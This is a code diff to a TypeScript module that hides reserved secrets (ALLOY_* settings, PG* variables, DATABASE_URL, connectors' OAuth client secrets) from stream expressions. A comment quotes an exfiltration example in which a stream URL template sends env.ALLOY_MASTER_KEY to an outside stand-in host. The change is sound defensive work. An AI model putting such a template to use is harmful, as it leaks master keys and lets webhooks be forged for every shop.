@@ -9,7 +9,7 @@
  * delivery then rejects with ExecutionInterruptedError and `record.stream` stays unset, so
  * the resumed run delivers it (same message id, so receivers de-duplicate).
  */
-import { connectionEnvName } from '../core/connection-env.js';
+import { appVariables } from '../core/connection-env.js';
 import type { ConnectorRegistry } from '../connectors/types.js';
 import { AlloyError, StepError } from '../errors.js';
 import type { CompiledStream } from './compile.js';
@@ -26,41 +26,43 @@ export const STREAM_EVENT_TYPE = 'execution.completed';
 /**
  * What stream expressions may not read from the server's environment, as `env` or `secrets`:
  * alloy's own settings and credentials (every `ALLOY_*`: the master key, tokens, the database
- * URL), libpq's variables (`PG*`) and `DATABASE_URL`, and every connector's connection
- * variables (an app's API and client secrets: with them webhooks can be forged for every
- * shop). A released `stream.url` of `https://x.example/?k={{ env.ALLOY_MASTER_KEY }}` sent the
- * key to every stored secret out, and kept it in the record, for anyone who could release.
+ * URL), libpq's variables (`PG*`) and `DATABASE_URL`, and every connector's app variables
+ * (its connection fields' and its OAuth client's, `SHOPIFY_API_SECRET`, `SHOPIFY_CLIENT_SECRET`:
+ * with them webhooks and OAuth callbacks can be forged for every shop). A released
+ * `stream.url` of `https://x.example/?k={{ env.ALLOY_MASTER_KEY }}` sent the key to every
+ * stored secret out, and kept it in the record, for anyone who could release.
  */
-export function isReservedVariable(name: string, connectionVariables: ReadonlySet<string>): boolean {
-  return name.startsWith('ALLOY_') || /^PG[A-Z]+$/.test(name) || name === 'DATABASE_URL' || connectionVariables.has(name);
+export function isReservedVariable(name: string, appVariableNames: ReadonlySet<string>): boolean {
+  return name.startsWith('ALLOY_') || /^PG[A-Z]+$/.test(name) || name === 'DATABASE_URL' || appVariableNames.has(name);
 }
 
-/** The connection variables of every connector the engine has (made once per registry). */
-const connectionVariablesOf = new WeakMap<ConnectorRegistry, ReadonlySet<string>>();
-function connectionVariables(connectors: ConnectorRegistry | undefined): ReadonlySet<string> {
-  if (!connectors) return new Set();
-  let names = connectionVariablesOf.get(connectors);
+/** Every app variable of every connector the engine has: connection fields and OAuth client (made once per registry). */
+const appVariablesOf = new WeakMap<ConnectorRegistry, ReadonlySet<string>>();
+function appVariablesIn(connectors: ConnectorRegistry): ReadonlySet<string> {
+  let names = appVariablesOf.get(connectors);
   if (!names) {
     const all = new Set<string>();
     for (const app of connectors.names()) {
       const manifest = connectors.get(app)?.manifest;
-      for (const field of Object.keys(manifest?.connection ?? {})) all.add(connectionEnvName(manifest!, field));
+      if (manifest) for (const name of appVariables(manifest)) all.add(name);
     }
-    connectionVariablesOf.set(connectors, (names = all));
+    appVariablesOf.set(connectors, (names = all));
   }
   return names;
 }
 
-const visibleEnv = new WeakMap<object, Record<string, string | undefined>>();
-
-/** The variables stream expressions see: all but the reserved ones (made once per environment object). */
-function streamVariables<T>(vars: Record<string, T>, connectors: ConnectorRegistry | undefined): Record<string, T> {
-  let out = visibleEnv.get(vars) as Record<string, T> | undefined;
+/** What stream expressions see of `vars`: all but the reserved names, made once per (variables, registry). */
+const visible = new WeakMap<object, WeakMap<object, Record<string, unknown>>>();
+const NO_CONNECTORS: ConnectorRegistry = { get: () => undefined, names: () => [] };
+function streamVariables<T>(vars: Record<string, T>, connectors: ConnectorRegistry = NO_CONNECTORS): Record<string, T> {
+  let byRegistry = visible.get(vars);
+  if (!byRegistry) visible.set(vars, (byRegistry = new WeakMap()));
+  let out = byRegistry.get(connectors) as Record<string, T> | undefined;
   if (!out) {
-    const reserved = connectionVariables(connectors);
+    const reserved = appVariablesIn(connectors);
     out = {};
     for (const [k, v] of Object.entries(vars)) if (!isReservedVariable(k, reserved)) out[k] = v;
-    visibleEnv.set(vars, out as Record<string, string | undefined>);
+    byRegistry.set(connectors, out);
   }
   return out;
 }
